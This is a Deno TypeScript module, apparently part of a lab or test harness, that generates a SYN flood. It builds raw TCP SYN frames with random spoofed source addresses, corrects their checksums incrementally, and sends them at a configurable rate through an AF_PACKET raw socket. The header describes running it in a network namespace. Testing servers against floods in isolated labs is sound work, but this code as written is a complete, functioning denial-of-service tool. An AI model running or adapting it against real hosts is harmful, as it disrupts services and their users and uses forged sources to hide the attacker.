/**
 * A flood of SYNs from random addresses, as frames that no kernel has made a connection for. Run in a network namespace:
 * `deno run --allow-ffi syn_flood.ts '{"interface":"lab1",…}'`; it says how many were sent.
 *
 * @module
 */
import { getSystemErrorName } from "node:util";
import { seededRandom } from "../timing/random.ts";
import { internetSum, mssOption, tcpFrame } from "./frames.ts";

/** Who floods whom. */
export interface FloodPlan {
  interface: string;
  /** The server's address as a number, and its port. */
  address: number;
  port: number;
  syns: number;
  seed: number;
  /** SYNs sent in a second at most. */
  rate: number;
}

const AF_PACKET = 17;
const SOCK_RAW = 3;
const SOCKADDR_LL_BYTES = 20;
const EAGAIN = 11;
const ENOBUFS = 105;
const BATCH = 64;
const NETWORK = 0x0a000000; // 10/8
const SOURCE_AT = 26; // in the frame: the source address, and its port and sequence number
const PORT_AT = 34;
const SEQ_AT = 38;
const IP_SUM_AT = 24;
const TCP_SUM_AT = 50;

/** A SYN whose source can be set: the two checksums are corrected by what has changed (RFC 1624). */
class Syn {
  readonly frame: Uint8Array<ArrayBuffer>;
  readonly #view: DataView;
  readonly #ipSum: number; // without the source
  readonly #tcpSum: number;

  constructor(address: number, port: number) {
    this.frame = tcpFrame({ from: [0, 0], to: [address, port], flags: "S", options: mssOption(1460) }).slice();
    this.#view = new DataView(this.frame.buffer);
    this.#ipSum = 0xffff - this.#view.getUint16(IP_SUM_AT);
    this.#tcpSum = 0xffff - this.#view.getUint16(TCP_SUM_AT);
  }

  setSource(address: number, port: number, seq: number): void {
    const view = this.#view;
    view.setUint32(SOURCE_AT, address);
    view.setUint16(PORT_AT, port);
    view.setUint32(SEQ_AT, seq);
    view.setUint16(IP_SUM_AT, 0xffff - internetSum(this.frame.subarray(SOURCE_AT, SOURCE_AT + 4), this.#ipSum));
    const changed = internetSum(this.frame.subarray(SOURCE_AT, SOURCE_AT + 4), this.#tcpSum);
    const more = internetSum(this.frame.subarray(SEQ_AT, SEQ_AT + 4), changed);
    view.setUint16(TCP_SUM_AT, 0xffff - internetSum(this.frame.subarray(PORT_AT, PORT_AT + 2), more));
  }
}

/** Sends the flood. */
async function flood(plan: FloodPlan): Promise<void> {
  const libc = Deno.dlopen("libc.so.6", {
    socket: { parameters: ["i32", "i32", "i32"], result: "i32" },
    bind: { parameters: ["i32", "buffer", "i32"], result: "i32" },
    if_nametoindex: { parameters: ["buffer"], result: "u32" },
    send: { parameters: ["i32", "buffer", "i32", "i32"], result: "i32" },
    __errno_location: { parameters: [], result: "pointer" },
  }).symbols;
  const errno = new Int32Array(Deno.UnsafePointerView.getArrayBuffer(libc.__errno_location()!, 4));
  const must = (result: number, action: string) => {
    if (result >= 0) return result;
    throw new Error(`Cannot ${action}: ${getSystemErrorName(-errno[0]!)}`);
  };
  const socket = must(libc.socket(AF_PACKET, SOCK_RAW, 0), "create a packet socket");
  const address = new Uint8Array(SOCKADDR_LL_BYTES);
  const index = libc.if_nametoindex(new TextEncoder().encode(`${plan.interface}\0`));
  new Int32Array(address.buffer).set([AF_PACKET, index]);
  must(libc.bind(socket, address, SOCKADDR_LL_BYTES), `bind to ${plan.interface}`);
  const random = seededRandom(plan.seed);
  const syn = new Syn(plan.address, plan.port);
  const start = performance.now();
  for (let sent = 0; sent < plan.syns;) {
    const due = Math.min(plan.syns, (performance.now() - start) / 1000 * plan.rate);
    for (let i = 0; i < BATCH && sent < due; i++, sent++) {
      const host = 3 + Math.floor(random() * (2 ** 24 - 4)); // neither the server's address nor the kernel's
      syn.setSource(NETWORK + host, 1 + Math.floor(random() * 65_535), Math.floor(random() * 2 ** 32));
      const result = libc.send(socket, syn.frame, syn.frame.length, 0);
      if (result < 0 && errno[0] !== EAGAIN && errno[0] !== ENOBUFS) must(result, "send a SYN");
    }
    if (sent >= due) await new Promise((resolve) => setTimeout(resolve, 1));
  }
  console.log(plan.syns);
}

if (import.meta.main) await flood(JSON.parse(Deno.args[0]!) as FloodPlan);
